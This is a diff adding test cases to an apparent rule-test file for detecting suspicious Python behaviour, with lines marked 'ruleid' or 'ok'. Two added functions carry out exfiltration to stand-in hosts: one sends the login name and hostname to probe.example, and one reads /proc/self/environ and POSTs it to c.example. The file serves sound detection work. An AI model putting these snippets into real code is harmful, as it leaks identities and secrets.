@@ -75,3 +75,41 @@ def shout():
     text = pyperclip.paste()
     # ok: py-behaviour-clipboard-sent
     pyperclip.copy(text.upper())
+
+
+def tls_probe():
+    import ssl
+
+    who = {"u": os.getlogin(), "h": socket.gethostname()}
+    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname="probe.example")
+    wrapped.connect(("probe.example", 443))
+    # ruleid: py-behaviour-identity-sent
+    wrapped.send(f"GET /?d={json.dumps(who)} HTTP/1.1\r\n\r\n".encode())
+
+
+def health_check(host):
+    raw = socket.create_connection((host, 443), timeout=3)
+    # ok: py-behaviour-identity-sent
+    raw.sendall(b"HEAD / HTTP/1.0\r\n\r\n")
+
+
+tls_probe()
+health_check("db.internal")
+
+
+def proc_env(url):
+    env = open(Path("/", "proc", "self", "environ")).read()
+    # ruleid: py-behaviour-credential-file-sent
+    requests.post(url, data=env)
+
+
+def config_path(url):
+    cfg = open(os.path.join(os.path.dirname(__file__), "conf", "settings.ini")).read()
+    # ok: py-behaviour-credential-file-sent
+    requests.post(url, data={"version": "1"})
+    return cfg
+
+
+proc_env("https://c.example")
+config_path("https://c.example")
